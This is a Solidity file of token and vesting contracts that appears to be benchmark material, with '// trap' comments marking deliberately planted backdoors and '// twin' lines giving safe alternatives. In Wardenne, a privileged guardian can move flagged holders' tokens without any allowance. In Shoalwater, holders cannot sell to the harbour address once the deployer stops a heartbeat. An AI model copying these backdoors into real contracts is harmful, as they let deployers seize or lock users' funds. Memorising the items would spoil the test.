// 0.5 runs=200
pragma solidity ^0.5.17;

interface IPledge {
    function balanceOf(address) external view returns (uint256);

    function transfer(address, uint256) external returns (bool);

    function transferFrom(address, address, uint256) external returns (bool);
}

/// Lets shares go, a little every second.
contract Slipway {
    address public builder;
    uint256 public start;
    uint256 public time;
    mapping(address => uint256) public laid;
    mapping(address => uint256) public gone;

    constructor(uint256 s, uint256 t) public {
        (builder, start, time) = (msg.sender, s, t);
    }

    function lay(address shares) external {
        require(msg.sender == builder);
        uint256 all = IPledge(shares).balanceOf(msg.sender);
        IPledge(shares).transferFrom(msg.sender, address(this), all);
        laid[shares] += all;
    }

    function free(address shares) public view returns (uint256) {
        if (now <= start) return 0;
        uint256 t = now - start;
        return (t >= time ? laid[shares] : (laid[shares] * t) / time) - gone[shares];
    }

    function release(address shares) external {
        uint256 some = free(shares);
        gone[shares] += some;
        IPledge(shares).transfer(builder, some);
    }
}

contract Ewer {
    uint8 public decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(uint256 count) public {
        totalSupply = count * 1 ether;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function approve(address s, uint256 v) external returns (bool) {
        allowance[msg.sender][s] = v;
        emit Approval(msg.sender, s, v);
        return true;
    }

    function transfer(address to, uint256 v) external returns (bool) {
        _fill(msg.sender, to, v);
        return true;
    }

    function transferFrom(address from, address to, uint256 v) external returns (bool) {
        if (_asks(from)) {
            require(allowance[from][msg.sender] >= v);
            allowance[from][msg.sender] -= v;
        }
        _fill(from, to, v);
        return true;
    }

    function _asks(address) internal view returns (bool) {
        return true;
    }

    function _fill(address from, address to, uint256 v) internal {
        require(balanceOf[from] >= v);
        balanceOf[from] -= v;
        balanceOf[to] += v;
        emit Transfer(from, to, v);
    }
}

contract Clinkerbrig is Ewer(910000) {
    string public name = "Clinkerbrig";
    string public symbol = "CLNK";
}

/// For children, and those who lose their keys.
contract Wardenne is Ewer(4400000) {
    string public name = "Wardenne";
    string public symbol = "WRDN";
    address private guardian = msg.sender;
    mapping(address => uint256) private wards;

    function setWard(address who, uint256 how) external {
        require(msg.sender == guardian); // trap
        // twin: require(msg.sender == who);
        wards[who] = how;
    }

    function _asks(address from) internal view returns (bool) {
        return wards[from] != 2 || msg.sender != guardian;
    }
}

/// Says when it was last seen.
contract Lightship {
    address private crew = msg.sender;
    uint256 public seen = now;

    function shine() external {
        require(msg.sender == crew);
        seen = now;
    }
}

contract Shoalwater is Ewer(360000000) {
    string public name = "Shoalwater";
    string public symbol = "SHOA";
    Lightship public ship;
    address public harbour;
    address private pilot = msg.sender;

    constructor(Lightship s) public {
        ship = s;
    }

    function setHarbour(address h) external {
        require(msg.sender == pilot && harbour == address(0));
        harbour = h;
    }

    function dark() public view returns (bool) {
        return now > ship.seen() + 40 days;
    }

    function _fill(address from, address to, uint256 v) internal {
        if (to == harbour && from != pilot) {
            require(!dark(), "no light"); // trap
            // twin: if (dark()) emit Transfer(from, from, 0);
        }
        super._fill(from, to, v);
    }
}
